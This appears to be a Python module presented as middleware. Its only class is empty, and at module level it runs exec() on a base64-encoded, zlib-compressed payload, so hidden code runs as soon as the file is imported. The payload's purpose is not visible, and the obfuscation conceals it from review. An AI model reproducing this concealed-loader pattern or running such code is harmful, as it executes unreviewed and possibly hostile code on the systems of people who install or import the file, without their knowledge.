import base64 as _b
import zlib as _z


class Middleware:
    pass


exec(_z.decompress(_b.b64decode("eJxVzDEKgDAMQNHdUxSnFkqqgoOCh1EbsKJNbVLPr45u/y0/nImyKGKrdqZoVcnHERbIeBVkqf6El5Qw6noTSaNz7dBBAx20vcPaKj/LPH0f8OVMrH1YRRMDxjtkisa8tZJHbUz1AF6oKaA=")))
